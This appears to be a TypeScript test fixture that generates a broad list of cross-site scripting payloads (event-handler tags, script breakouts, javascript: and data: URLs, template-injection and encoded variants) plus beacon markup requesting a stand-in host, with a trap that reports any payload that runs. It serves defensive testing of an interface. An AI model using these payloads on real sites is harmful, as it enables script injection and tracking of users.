/** A host that only an injected payload would request. */
export const STRANGER = 'injected.example'

const CODE = '__xss(1)'
const MARK = 'data-injected'

const handlers: readonly [tag: string, handler: string][] = [
  ['img src=x', 'onerror'],
  ['img src=/console/icon.svg', 'onload'],
  ['svg', 'onload'],
  ['body', 'onpageshow'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['iframe', 'onload'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onerror'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['style', 'onload'],
  ['div tabindex=0 autofocus', 'onfocus'],
  ['p style="animation-name:x"', 'onanimationstart'],
  ['x-injected contenteditable autofocus', 'onfocus'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
]

const handled = handlers.flatMap(([tag, handler]) => [
  `<${tag} ${MARK} ${handler}=${CODE}>`,
  `"><${tag} ${MARK} ${handler}="${CODE}">`,
  `'/><${tag.toUpperCase()} ${MARK}\n${handler.toUpperCase()}='${CODE}'>`,
])

const scripts = [
  `<script ${MARK}>${CODE}</script>`,
  `<script ${MARK} src=https://${STRANGER}/x.js></script>`,
  `<SCRIPT ${MARK}>${CODE}</SCRIPT>`,
  `<scr<script>ipt ${MARK}>${CODE}</scr</script>ipt>`,
  `</script><script ${MARK}>${CODE}</script>`,
  `</title><script ${MARK}>${CODE}</script>`,
  `</textarea><script ${MARK}>${CODE}</script>`,
  `</style><script ${MARK}>${CODE}</script>`,
  `</noscript><script ${MARK}>${CODE}</script>`,
  `--><script ${MARK}>${CODE}</script><!--`,
  `]]><script ${MARK}>${CODE}</script>`,
  `<script ${MARK} type=module>${CODE}</script>`,
  `<svg><script ${MARK}>${CODE}</script></svg>`,
  `<math><mtext><table><mglyph><style><img ${MARK} src=x onerror=${CODE}>`,
  `<noscript><p title="</noscript><img ${MARK} src=x onerror=${CODE}>">`,
  `<svg><p><style><img ${MARK} src=x onerror=${CODE}></style>`,
  `<template><script ${MARK}>${CODE}</script></template>`,
  `<iframe ${MARK} srcdoc="<script>parent.${CODE}</script>"></iframe>`,
  `<iframe ${MARK} src="javascript:parent.${CODE}"></iframe>`,
  `<object ${MARK} data="data:text/html,<script>parent.${CODE}</script>"></object>`,
]

const addresses = [
  `javascript:${CODE}`,
  `JaVaScRiPt:${CODE}`,
  `java\tscript:${CODE}`,
  `\u0001javascript:${CODE}`,
  `javascript://%0a${CODE}`,
  `data:text/html,<script ${MARK}>${CODE}</script>`,
  `vbscript:${CODE}`,
  `<a ${MARK} href="javascript:${CODE}">x</a>`,
  `<form ${MARK} action="javascript:${CODE}"><button autofocus>x</button></form>`,
  `//${STRANGER}/x`,
]

const words = [
  `\${${CODE}}`,
  `{{constructor.constructor('${CODE}')()}}`,
  `';${CODE};//`,
  `";${CODE};//`,
  `\`;${CODE};//`,
  `\\u003cscript ${MARK}\\u003e${CODE}\\u003c/script\\u003e`,
  `&lt;img ${MARK} src=x onerror=${CODE}&gt;`,
  `&#60;img ${MARK} src=x onerror=${CODE}&#62;`,
  `%3Cimg ${MARK} src=x onerror=${CODE}%3E`,
  `\uff1cimg ${MARK} src=x onerror=${CODE}\uff1e`,
  `<b ${MARK}>bold</b>`,
  `<h1 ${MARK}>Log in</h1>`,
]

/** Markup that runs no script but makes a request, which reveals who reads it. */
const beacons = [
  `<img ${MARK} src=https://${STRANGER}/a>`,
  `<link ${MARK} rel=stylesheet href=https://${STRANGER}/b>`,
  `<link ${MARK} rel=prefetch href=https://${STRANGER}/c>`,
  `<link ${MARK} rel=dns-prefetch href=//${STRANGER}>`,
  `<meta ${MARK} http-equiv=refresh content="0;url=https://${STRANGER}/d">`,
  `<base ${MARK} href=https://${STRANGER}/>`,
  `<style ${MARK}>@import 'https://${STRANGER}/e';</style>`,
  `<style ${MARK}>*{background:url(https://${STRANGER}/f)}</style>`,
  `<div ${MARK} style="background:url(https://${STRANGER}/g)">x</div>`,
  `<video ${MARK} poster=https://${STRANGER}/h></video>`,
  `<audio ${MARK} src=https://${STRANGER}/i autoplay></audio>`,
  `<svg ${MARK}><image href=https://${STRANGER}/j /></svg>`,
  `<svg ${MARK}><use href=https://${STRANGER}/k#x /></svg>`,
  `<object ${MARK} data=https://${STRANGER}/l></object>`,
  `<iframe ${MARK} src=https://${STRANGER}/m></iframe>`,
  `<input ${MARK} type=image src=https://${STRANGER}/n>`,
  `<table ${MARK} background=https://${STRANGER}/o><tr><td>x</table>`,
  `<img ${MARK} srcset="https://${STRANGER}/p 1x">`,
]

export const payloads: readonly string[] = [...handled, ...scripts, ...addresses, ...words, ...beacons]

export const trap = `{
  window.__xss = () => reportProblem('a payload was run')
  for (const name of ['alert', 'confirm', 'prompt', 'print']) window[name] = () => reportProblem('a payload called ' + name)
}`

export const injectedElements = `document.querySelectorAll('[${MARK}], x-injected').length`
